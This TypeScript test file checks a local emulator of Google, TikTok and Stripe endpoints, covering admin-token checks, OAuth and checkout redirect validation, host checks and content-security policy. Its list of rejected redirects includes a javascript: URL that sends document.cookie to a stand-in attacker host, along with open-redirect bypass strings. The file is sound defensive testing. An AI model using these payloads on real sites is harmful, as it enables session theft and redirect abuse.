import { describe, expect, it } from 'vitest';
import { createEmulator } from './app.ts';

const home = 'http://localhost:3000';
const token = 'the admin token';
const app = createEmulator({ dir: null, now: () => Date.now(), adminToken: token, publicUrl: () => home });

describe('the emulator', () => {
  it.each([
    ['GET', 'google-places'],
    ['POST', 'google-places'],
    ['POST', 'places'],
    ['POST', 'faults'],
    ['DELETE', 'faults'],
    ['GET', 'google-reviews/x'],
    ['POST', 'google-revoke'],
    ['POST', 'tiktok/lifetimes'],
    ['GET', 'messages'],
    ['DELETE', 'messages'],
  ])('is steered by nobody without its token: %s /__admin/%s', async (method, path) => {
    const call = (headers: Record<string, string>) =>
      app.request(`/__admin/${path}`, { method, headers, ...(method === 'POST' ? { body: '[]' } : {}) });
    for (const authorization of ['', 'Bearer wrong', token]) expect((await call({ authorization })).status).toBe(401);
    expect((await call({ authorization: `Bearer ${token}` })).status).toBe(200);
  });

  const strange = [
    'javascript:fetch("//evil.example/"+document.cookie)',
    'data:text/html,<script>1</script>',
    'http://localhost:3000.evil.example/accept-google',
    'http://localhost:3000@evil.example/',
    'http://evil.example/',
    'http://localhost:3001/',
    'https://localhost:3000/',
    '//evil.example/',
    '/accept-google',
    '',
  ];
  const google = (redirect: string) =>
    `/google-accounts/o/oauth2/v2/auth?${new URLSearchParams({ client_id: 'c', redirect_uri: redirect, response_type: 'code', scope: 's', state: 't', login: 'owner@gmail.example' })}`;
  const tiktok = (redirect: string) =>
    `/tiktok-authorize/v2/auth/authorize/?${new URLSearchParams({ client_key: 'c', redirect_uri: redirect, response_type: 'code', scope: 's', state: 't' })}`;
  const decided = (redirect: string) =>
    `/tiktok-authorize/v2/auth/authorize/decide?${new URLSearchParams({ redirect_uri: redirect, scope: 's', state: 't', denied: '1' })}`;
  const checkout = (success: string, cancel: string) =>
    app.request('/v1/checkout/sessions', {
      method: 'POST',
      headers: { authorization: 'Bearer sk_test' },
      body: new URLSearchParams({ success_url: success, cancel_url: cancel }).toString(),
    });

  it.each(strange)('sends nobody to %s', async (redirect) => {
    for (const path of [google(redirect), tiktok(redirect), decided(redirect)]) {
      const answer = await app.request(path);
      expect(answer.status).toBe(400);
      expect(await answer.text()).not.toContain('evil');
    }
    expect((await checkout(redirect, `${home}/`)).status).toBe(400);
    expect((await checkout(`${home}/`, redirect)).status).toBe(400);
  });

  it('sends back to the product', async () => {
    expect((await app.request(google(`${home}/accept-google`))).headers.get('location')).toContain(
      `${home}/accept-google?code=`,
    );
    expect((await app.request(decided(`${home}/accept-tiktok`))).headers.get('location')).toContain(
      `${home}/accept-tiktok?error=`,
    );
    const session = await checkout(`${home}/change-payment?session={CHECKOUT_SESSION_ID}`, `${home}/change-payment`);
    // On the emulator's own origin, not the product's
    expect((await session.json()).url).toMatch(/^http:\/\/localhost\/stripe-checkout\//);
  });

  it('answers to no other name than this machine’s own, and runs no script', async () => {
    const other = await app.request('http://evil.example/google-places/v1/places/x');
    expect(other.status).toBe(421);
    const page = await app.request(tiktok(`${home}/accept-tiktok`));
    expect(page.headers.get('content-security-policy')).toContain("default-src 'none'");
  });
});
